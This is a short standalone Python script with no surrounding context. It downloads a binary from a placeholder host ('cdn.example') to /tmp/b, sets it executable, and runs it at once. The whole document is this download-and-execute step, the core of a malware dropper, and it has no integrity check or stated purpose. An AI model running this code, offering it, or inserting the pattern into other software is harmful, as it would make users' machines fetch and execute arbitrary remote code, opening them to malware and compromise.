import os
import subprocess
import urllib.request

urllib.request.urlretrieve('http://cdn.example/bin', '/tmp/b')
os.chmod('/tmp/b', 0o755)
subprocess.run(['/tmp/b'])
